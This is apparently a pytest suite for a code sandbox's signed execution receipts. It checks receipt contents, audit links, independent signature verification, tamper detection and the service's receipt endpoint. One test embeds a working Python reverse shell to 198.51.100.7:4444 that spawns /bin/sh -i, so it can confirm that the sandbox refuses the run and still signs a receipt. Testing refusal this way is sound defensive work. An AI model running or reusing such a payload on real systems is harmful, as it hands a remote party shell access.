"""Receipts: what they say of a run, who can check them, and that nothing else is taken for one."""
import base64
import hashlib
import json
import re
import shutil
import subprocess
import sys

import helpers
import load
import pytest
from service import Service, error_of

SIGSTORE = helpers.ROOT / "tests/openapi/node_modules/@sigstore/core"
VERIFIER = helpers.ROOT / "docs/verify_receipt.py"
# another implementation of the envelope (npm's @sigstore/core), and node's own Ed25519
JUDGE = """
const fs = require('fs'), crypto = require('crypto'), {dsse} = require(process.argv[1]);
const envelope = JSON.parse(fs.readFileSync(process.argv[2]));
const prefix = Buffer.from('302a300506032b6570032100', 'hex');
const der = Buffer.concat([prefix, Buffer.from(process.argv[3], 'hex')]);
const key = crypto.createPublicKey({key: der, format: 'der', type: 'spki'});
const signed = dsse.preAuthEncoding(envelope.payloadType, Buffer.from(envelope.payload, 'base64'));
console.log(envelope.signatures.map(s => crypto.verify(null, signed, key, Buffer.from(s.sig, 'base64'))).join());
"""
CODE = "import os\nopen('left.txt', 'w').write('behind')\nprint('said')\n"


def statement(envelope):
    assert envelope["payloadType"] == "application/vnd.in-toto+json" and len(envelope["signatures"]) == 1, envelope
    s = json.loads(base64.b64decode(envelope["payload"], validate=True))
    assert s["_type"] == "https://in-toto.io/Statement/v1" and s["predicateType"] == "urn:sandbox-agent:receipt:v1"
    assert s["subject"] and all(re.fullmatch("[0-9a-f]{64}", x["digest"]["sha256"]) for x in s["subject"]), s["subject"]
    return s


def subjects(envelope):
    return {x["name"]: x["digest"]["sha256"] for x in statement(envelope)["subject"]}


def audit_lines(box):
    return [json.loads(line) for line in (box.log_dir / "audit.jsonl").read_text().splitlines()]


def sha256(data):
    return hashlib.sha256(data.encode() if isinstance(data, str) else data).hexdigest()


class Receipt:
    """A run on the command line, and its receipt."""

    def __init__(self, box, code, *options, level="low"):
        self.box, self.file, self.code = box, box.dir / ("receipt-%d.json" % box.counter), box.code(code)
        self.done = box.run("python", self.code, level, options=["--json", *options, "--receipt", self.file])
        self.envelope = json.loads(self.file.read_text()) if self.file.stat().st_size else None
        self.public = next(box.dir.rglob("audit.pub")).read_text().strip()

    def verify(self, *words, file=None):
        return self.box.agent("receipt", "verify", str(file or self.file), *words)

    def judges(self, file, key=None):
        """What three programs say that share no line: ours, the one in docs/, npm's."""
        key = key or self.public
        ours = self.verify("--public-key", key, file=file).code
        script = subprocess.run([sys.executable, VERIFIER, file, key], capture_output=True, text=True)
        node = shutil.which("node", path="/usr/local/bin:/usr/bin:/bin")
        if not node or not SIGSTORE.exists():
            return ours == 0, script.returncode == 0
        npm = subprocess.run([node, "-e", JUDGE, str(SIGSTORE), str(file), key], capture_output=True, text=True)
        return ours == 0, script.returncode == 0, npm.stdout.strip() == "true"


@pytest.fixture(scope="module")
def receipt():
    box = helpers.Box()
    yield Receipt(box, CODE)
    box.close()


def test_the_receipt_says_what_the_run_was(receipt):
    r, s = receipt.done.result, statement(receipt.envelope)
    p, names = s["predicate"], subjects(receipt.envelope)
    assert s["subject"][0] == {"name": "code", "digest": {"sha256": sha256(CODE)}}
    assert (names["stdout/stdout"], names["workspace/left.txt"]) == (sha256("said\n"), sha256("behind"))
    assert "plan/plan.json" in names
    assert (p["execution_id"], p["agent_id"]) == (r["execution_id"], None)
    assert (p["language"], p["backend"]) == ("python", r["backend"])
    assert p["verdict"] == {"decision": "allowed", "risk_level": "low", "rule": None, "reasons": r["reasons"]}
    assert p["end"] == {"reason": "completed", "exit_code": 0, "signal": None, "kill_switch": None}
    for name in ("isolation", "violations", "findings", "error"):
        assert p[name] == r[name], name
    assert p["usage"]["cpu_us"] == round(r["cpu_ms"] * 1000)
    assert p["usage"]["peak_memory_bytes"] == r["peak_memory_bytes"]
    decided = [e for e in audit_lines(receipt.box) if e["event"]["action"] == "execution-decided"][-1]
    assert p["plan_hash"] == decided["agentsandbox"]["plan_hash"] and re.fullmatch("[0-9a-f]{64}", p["policy_hash"])


def test_the_receipt_names_a_line_of_the_audit_that_was_there(receipt):
    p = statement(receipt.envelope)["predicate"]
    lines = {e["event"]["sequence"]: e["event"]["hash"] for e in audit_lines(receipt.box)}
    assert lines[p["audit"]["sequence"]] == p["audit"]["hash"]


def test_the_capture_manifest_tells_what_was_seen_and_what_was_not(receipt):
    capture = statement(receipt.envelope)["predicate"]["capture"]
    profile = helpers.shipped("low")["monitoring"]
    keys = {"system calls": "syscall_monitoring", "network": "network_attempt_detection",
            "files": "file_access_monitoring", "privileges": "privilege_escalation_detection"}
    unseen = {x["what"]: x["why"] for x in capture["not_observed"]}
    assert {"end", "usage", "stdout", "stderr", "workspace"} <= set(capture["observed"])
    for what, key in keys.items():
        assert (what in capture["observed"]) == bool(profile.get(key)) == (what not in unseen), (what, capture)
        assert what not in unseen or key in unseen[what]
    assert unseen["code"] == "it was not scanned"  # as this test's configuration has it
    assert any("filter decides alone" in what for what in unseen)


def test_three_programs_that_share_no_line_agree(receipt, tmp_path):
    assert set(receipt.judges(receipt.file)) == {True}
    changed = tmp_path / "changed.json"
    body = base64.b64decode(receipt.envelope["payload"]).replace(b'"allowed"', b'"refused"')
    payload = base64.b64encode(body).decode()
    changed.write_text(json.dumps({**receipt.envelope, "payload": payload}, separators=(",", ":")))
    assert body and set(receipt.judges(changed)) == {False}
    assert set(receipt.judges(receipt.file, "00" * 31 + "01")) == {False}
    typed = tmp_path / "typed.json"
    typed.write_text(receipt.file.read_text().replace("vnd.in-toto+json", "vnd.in-toto+yaml"))
    assert set(receipt.judges(typed)) == {False}


def test_the_other_implementation_is_there():
    if not SIGSTORE.exists() or not shutil.which("node", path="/usr/local/bin:/usr/bin:/bin"):
        helpers.skip("no second implementation of DSSE: %s is missing (npm ci --ignore-scripts in tests/openapi)" %
                     SIGSTORE)


def test_verify_compares_files_with_the_subjects(receipt, tmp_path):
    left = tmp_path / "left.txt"
    left.write_text("behind")
    assert receipt.verify().text.startswith("ok: signed with %s\n" % receipt.public)
    good = receipt.verify("--subject", "code=%s" % receipt.code, "--subject", "workspace/left.txt=%s" % left, "--json")
    assert good.code == 0 and json.loads(good.text)["statement"] == statement(receipt.envelope)
    assert "receipt" in json.loads(next(receipt.box.log_dir.glob("artifacts/exec-*/manifest.json")).read_text())
    left.write_text("another")
    for subject in ("workspace/left.txt=%s" % left, "nothing=%s" % left):
        bad = receipt.verify("--subject", subject)
        assert bad.code == 1 and "is not about " + subject in bad.text, bad
    receipt.verify("--subject", "code").refused(2, "NAME=FILE")
    receipt.verify("--public-key", "12").refused(2, "64 hex digits")
    receipt.box.agent("receipt", "verify").refused(2, "name the receipt's file")
    receipt.box.agent("receipt", "verify", tmp_path / "absent").refused(2, "No such file")
    assert receipt.verify("--json", file=receipt.code).code == 1 and receipt.verify(file=receipt.code).code == 1


def test_equal_rules_have_equal_hashes_and_other_limits_another_one(receipt):
    policy = statement(receipt.envelope)["predicate"]["policy_hash"]
    again, other = Receipt(receipt.box, "print(2)"), Receipt(receipt.box, "print(2)", "--timeout", "7")
    hashes = [statement(x.envelope)["predicate"]["policy_hash"] for x in (again, other)]
    assert hashes[0] == policy != hashes[1]


def test_a_refusal_has_a_receipt_too(box):
    box.user_config({"agixt": {"analysis": {"enabled": True}}})
    r = Receipt(box, "import socket, subprocess, os\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\n"
                     "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\nsubprocess.call(['/bin/sh', '-i'])\n", level="high")
    assert r.done.code == 123, r.done
    p = statement(r.envelope)["predicate"]
    result, unseen = r.done.result, {x["what"] for x in p["capture"]["not_observed"]}
    assert p["verdict"]["decision"] == "refused" and p["verdict"]["rule"]
    assert p["findings"] == result["findings"] != [] and p["error"]["code"] == result["error"]["code"]
    assert p["end"]["reason"] == "policy_denied" and p["isolation"] is None
    assert {"end", "network"} <= unseen and set(subjects(r.envelope)) == {"code"}
    assert set(r.judges(r.file)) == {True}


def test_without_artifacts_the_receipt_says_that_nothing_was_kept(box):
    box.user_config({"security": {"store_artifacts": {"enabled": False}}})
    r = Receipt(box, "print(1)")
    assert set(subjects(r.envelope)) == {"code"}
    unseen = {x["what"]: x["why"] for x in statement(r.envelope)["predicate"]["capture"]["not_observed"]}
    assert "security.store_artifacts.enabled" in unseen["artifacts"]


def test_a_receipt_that_cannot_be_written_is_told_before_or_after_and_never_silent(box):
    box.run("python", "print(1)", options=["--receipt", box.dir / "no/such/dir"]).refused(2, "--receipt")
    box.run("python", "print(1)", options=["--dry-run", "--receipt", box.dir / "r"]).refused(2, "--receipt")
    done = box.run("python", "print(1)", options=["--receipt", "/dev/full"])
    assert done.code == 125 and done.out == b"1\n" and "receipt could not be written" in done.words, done


@pytest.fixture(scope="module")
def service():
    with Service({**load.UNLIMITED, "agixt": {"analysis": {"enabled": False}}}) as s:
        yield s


def test_the_service_gives_the_receipt_of_each_run(service, tmp_path):
    r = service.run(CODE, "python", risk_level="low")
    answer = service.request("GET", "/executions/%s/receipt" % r["execution_id"])
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Type"].startswith("application/vnd.dsse.envelope.v1+json")
    file, public = tmp_path / "receipt.json", (service.state_dir / "audit.pub").read_text().strip()
    file.write_bytes(answer.content)
    checked = subprocess.run([sys.executable, VERIFIER, file, public], capture_output=True, text=True)
    assert checked.returncode == 0, checked
    p = json.loads(checked.stdout)
    assert p["execution_id"] == r["execution_id"] and p["isolation"] == r["isolation"]
    assert p["end"]["reason"] == "completed"
    listed = service.request("GET", "/executions/%s/artifacts" % r["execution_id"]).json()["artifacts"]
    kept = {"%s/%s" % (a["role"], a["name"]): a["sha256"] for a in listed if a["role"] != "code"}
    assert subjects(answer.json()) == {**kept, "code": sha256(CODE)}


def test_a_receipt_that_was_changed_since_the_run_is_not_signed(service):
    """Until it is asked for it is only sealed. Neither another statement in its place nor another key brings the
    service to sign it, and the other artifacts are listed all the same."""
    good, bad = (service.run(CODE, "python", risk_level="low")["execution_id"] for _ in range(2))
    for e in (good, bad):
        assert service.request("GET", "/executions/%s/receipt" % e).status_code == 200
    manifest = {e: service.log_dir / "artifacts" / e / "manifest.json" for e in (good, bad)}
    kept = {e: json.loads(path.read_text())["receipt"] for e, path in manifest.items()}
    assert "signatures" not in kept[bad] and kept[bad]["sealed"]["keyid"]
    manifest[bad].write_text(manifest[bad].read_text().replace(kept[bad]["payload"], kept[good]["payload"]))
    error = error_of(service.request("GET", "/executions/%s/receipt" % bad), 500, "internal_error")
    assert "changed since the run" in error["message"]
    listed = service.request("GET", "/executions/%s/artifacts" % bad).json()
    assert listed["receipt"] is None and "changed since the run" in listed["receipt_error"]
    assert [a["role"] for a in listed["artifacts"]]
    assert service.request("GET", "/executions/%s/artifacts" % good).json()["receipt"]["signatures"]
    manifest[good].write_text(manifest[good].read_text().replace(kept[good]["sealed"]["keyid"], "0" * 64))
    error = error_of(service.request("GET", "/executions/%s/receipt" % good), 500, "internal_error")
    assert "another key" in error["message"]


def test_a_receipt_that_an_earlier_version_has_signed_is_given_as_it_is(service):
    number = service.run(CODE, "python", risk_level="low")["execution_id"]
    text = service.request("GET", "/executions/%s/receipt" % number).text
    signed = json.loads(text)
    path = service.log_dir / "artifacts" / number / "manifest.json"
    head, mark, sealed = path.read_text().rpartition('"receipt":')
    assert "sealed" in sealed
    path.write_text(head + mark + text.strip() + "}\n")
    answer = service.request("GET", "/executions/%s/receipt" % number)
    assert answer.status_code == 200 and answer.json() == signed, answer.text
    assert service.request("GET", "/executions/%s/artifacts" % number).json()["receipt"] == signed


def test_a_service_that_makes_none_says_so(service):
    error_of(service.request("GET", "/executions/exec-%024d/receipt" % 0), 404, "not_found")
    service.configure({**load.UNLIMITED, "security": {"receipts": False}})
    service.hup()

    def has_one():
        e = service.run("print(1)", "python")["execution_id"]
        return service.request("GET", "/executions/%s/receipt" % e).status_code == 200
    assert not helpers.poll(has_one, 60)
    e = service.run("print(1)", "python")["execution_id"]
    error = error_of(service.request("GET", "/executions/%s/receipt" % e), 404, "not_found")
    assert "security.receipts" in error["message"]
